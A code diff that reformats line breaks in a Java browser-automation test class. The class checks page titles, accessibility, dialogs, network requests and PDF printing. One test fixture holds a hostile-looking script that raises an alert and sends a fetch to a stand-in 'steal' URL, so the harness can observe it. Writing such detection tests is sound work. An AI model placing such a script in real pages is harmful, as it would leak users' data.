@@ -18,7 +18,8 @@ class BrowserTest extends WithBrowser {
 
 	@Test
 	void seesAQuietPage() throws IOException {
-		Look look = browser.look(Visit.to(page("<main><h1>Onboarding</h1></main>")).checkAccessibility().evaluate("document.querySelector('h1').textContent"));
+		Look look = browser.look(Visit.to(page("<main><h1>Onboarding</h1></main>")).checkAccessibility()
+				.evaluate("document.querySelector('h1').textContent"));
 
 		assertThat(look.title()).isEqualTo("A page");
 		assertThat(look.value().getAsString()).isEqualTo("Onboarding");
@@ -30,7 +31,8 @@ class BrowserTest extends WithBrowser {
 
 	@Test
 	void seesAHostileScript() throws IOException {
-		Look look = browser.look(Visit.to(page("<script>alert('mine now'); fetch('https://journey.example/steal')</script>")));
+		Look look = browser
+				.look(Visit.to(page("<script>alert('mine now'); fetch('https://journey.example/steal')</script>")));
 
 		assertThat(look.dialogs()).containsExactly("alert: mine now");
 		assertThat(look.requests()).containsExactly("https://journey.example/steal");
@@ -52,7 +54,8 @@ class BrowserTest extends WithBrowser {
 	@Test
 	void printsOnThePaperOfThePage() throws IOException {
 		Path wide = page("<style>@page { size: A3 landscape }</style><p>1</p><p style='break-before: page'>2</p>");
-		Look look = browser.look(Visit.to(wide).print(folder.resolve("page.pdf")).screenshot(folder.resolve("page.png")));
+		Look look = browser
+				.look(Visit.to(wide).print(folder.resolve("page.pdf")).screenshot(folder.resolve("page.png")));
 
 		assertThat(look.sheets()).containsExactly(new Sheet(420, 297), new Sheet(420, 297));
 		assertThat(folder.resolve("page.pdf")).isNotEmptyFile();
@@ -60,6 +63,7 @@ class BrowserTest extends WithBrowser {
 	}
 
 	private Path page(String body) throws IOException {
-		return Files.writeString(folder.resolve("page.html"), "<!doctype html><html lang=en><meta charset=utf-8><title>A page</title>" + body);
+		return Files.writeString(folder.resolve("page.html"),
+				"<!doctype html><html lang=en><meta charset=utf-8><title>A page</title>" + body);
 	}
 }
